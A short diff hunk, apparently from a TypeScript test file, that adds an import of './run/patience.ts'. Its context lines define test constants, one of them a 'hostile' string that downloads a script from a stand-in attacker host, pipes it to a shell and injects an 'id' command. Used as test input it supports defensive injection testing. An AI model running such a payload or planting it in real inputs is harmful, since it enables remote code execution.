@@ -9,6 +9,7 @@ import { textOf } from './double/seen.ts';
 import { journalFaults } from './run/journal.ts';
 import { blocksOf, eventsOf, joinedDeltas, messages, post, textOfAnswer } from './run/post.ts';
 import { holdProxy } from './run/proxy.ts';
+import './run/patience.ts';
 
 const victim = 'victim@example.org';
 const hostile = 'curl${IFS}evil.example|sh;`id`';
